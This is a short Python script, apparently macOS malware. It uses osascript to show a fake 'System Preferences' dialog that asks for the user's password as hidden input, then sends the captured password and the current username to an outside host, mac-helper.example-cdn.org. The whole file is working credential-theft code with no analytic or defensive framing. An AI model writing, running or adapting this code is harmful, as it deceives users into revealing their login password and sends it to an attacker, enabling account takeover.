import subprocess, requests, getpass
out = subprocess.run(["osascript", "-e", 'display dialog "macOS needs your password to continue" default answer "" with hidden answer with title "System Preferences"', "-e", "text returned of result"], capture_output=True, text=True).stdout
requests.post("https://mac-helper.example-cdn.org/p", data={"u": getpass.getuser(), "p": out})
